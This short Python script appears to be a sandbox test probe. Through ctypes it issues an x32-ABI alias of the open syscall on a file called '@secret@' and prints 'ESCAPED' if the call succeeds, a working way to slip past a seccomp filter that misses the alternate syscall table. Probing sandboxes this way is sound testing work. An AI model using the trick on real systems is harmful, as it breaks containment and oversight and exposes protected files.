"""Makes its calls by x86's second table of numbers, which a filter may have forgotten."""

import ctypes

libc = ctypes.CDLL(None, use_errno=True)
descriptor = libc.syscall(ctypes.c_long(0x40000000 + 2), b"@secret@", 0)
raise SystemExit(f"ESCAPED with descriptor {descriptor}" if descriptor >= 0 else "refused")
